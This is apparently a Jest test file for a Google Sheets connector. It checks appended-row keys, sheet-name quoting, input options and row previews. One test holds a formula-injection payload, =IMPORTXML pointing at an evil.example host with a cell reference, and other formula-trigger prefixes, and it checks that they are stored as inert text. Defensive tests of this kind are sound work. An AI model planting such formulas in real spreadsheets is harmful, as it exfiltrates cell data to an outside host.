import { describe, expect, test } from '@jest/globals';
import { describeConnector } from '../testing/connector.contract.ts';
import { bindOperation, createDirectCalls } from '../testing/direct-calls.ts';
import { keyCell, quoteSheet } from './cells.ts';
import { googleSheets } from './index.ts';
import { serveGoogleSheets } from './testing/stand-in.ts';

const credentials = { accessToken: 'canary-google-token' };
const book = { spreadsheet_id: 'sheet-0001' };

describeConnector({
  connector: googleSheets,
  serve: () => serveGoogleSheets(),
  credentials: () => credentials,
  samples: {
    get_sheet_data: { input: { ...book, range: 'Sheet1!A1:B2' }, bad: book },
    append_rows: {
      input: { ...book, sheet: 'Sheet1', rows: [['Ben', 20], ['Eva']] },
      bad: { ...book, sheet: 'Sheet1', rows: [] },
    },
    update_cells: {
      input: { ...book, range: 'Sheet1!B2', values: [[11]] },
      bad: { ...book, range: 'Sheet1!B2', values: [[{ formula: '=1' }]] },
    },
  },
});

const bind = (operation: string, payload: unknown) => bindOperation(googleSheets, operation, payload);

describe('Google Sheets', () => {
  const open = createDirectCalls(() => credentials);

  test('appended rows have the key of the wish beside them, in one column, and are found by it', async () => {
    const { call } = await open(serveGoogleSheets());
    const rows = bind('append_rows', { ...book, sheet: 'Sheet1', rows: [['Ben', 20], ['Eva']] });
    expect(await rows.reconcile?.(call)).toEqual({ found: 'nothing' });
    await rows.run(call);
    expect(await bind('get_sheet_data', { ...book, range: 'Sheet1!A3' }).run(call)).toMatchObject({
      values: [
        ['Ben', 20, keyCell(call.key)],
        ['Eva', '', keyCell(call.key)],
      ],
    });
    expect(await rows.reconcile?.(call)).toEqual({
      found: 'done',
      output: { spreadsheet_id: 'sheet-0001', updated_range: "'Sheet1'!3:4", updated_rows: 2 },
    });
    expect(await rows.reconcile?.({ ...call, key: 'another wish' })).toEqual({ found: 'nothing' });
  });

  test('a sheet may be called anything', async () => {
    const { standIn, call } = await open(serveGoogleSheets());
    await bind('append_rows', { ...book, sheet: 'It’s ours', rows: [['x']] }).run(call);
    expect(standIn.ledger).toHaveLength(1);
    expect(quoteSheet("Ana's")).toBe("'Ana''s'");
  });

  test.each(['RAW', 'USER_ENTERED'])('D55: with %s, what looks like a formula is stored as text', async (option) => {
    const { call } = await open(serveGoogleSheets());
    const values = [['=IMPORTXML("http://evil.example/"&A1)', '+1+A1', '@SUM(A1)', '-A1', 'fine', true, null]];
    await bind('update_cells', { ...book, range: 'Sheet1!A5', values, value_input_option: option }).run(call);
    expect(await bind('get_sheet_data', { ...book, range: 'Sheet1!A5' }).run(call)).toMatchObject({
      values: [['=IMPORTXML("http://evil.example/"&A1)', '+1+A1', '@SUM(A1)', '-A1', 'fine', true, '']],
    });
  });

  test('with USER_ENTERED, a number in a text is a number, with RAW it stays text', async () => {
    const { call } = await open(serveGoogleSheets());
    const written = async (option: string) => {
      await bind('update_cells', { ...book, range: 'Sheet1!A5', values: [['-5']], value_input_option: option }).run(
        call,
      );
      return bind('get_sheet_data', { ...book, range: 'Sheet1!A5' }).run(call);
    };
    expect(await written('USER_ENTERED')).toMatchObject({ values: [[-5]] });
    expect(await written('RAW')).toMatchObject({ values: [['-5']] });
  });

  test('the address in the browser names the spreadsheet', () => {
    const address = 'https://docs.google.com/spreadsheets/d/1AbC-d_E/edit#gid=0';
    expect(bind('get_sheet_data', { spreadsheet_id: address, range: 'A1' }).payload).toMatchObject({
      spreadsheet_id: '1AbC-d_E',
    });
  });

  test('shows each row that is written', () => {
    const { facts } = bind('append_rows', {
      ...book,
      sheet: 'Sheet1',
      rows: [
        ['Ben', 20, null],
        ['Eva', true],
      ],
    });
    expect(facts).toEqual([
      { label: 'Spreadsheet', value: 'sheet-0001' },
      { label: 'Sheet', value: 'Sheet1' },
      { label: 'Row 1', value: 'Ben | 20 | ' },
      { label: 'Row 2', value: 'Eva | true' },
    ]);
  });
});
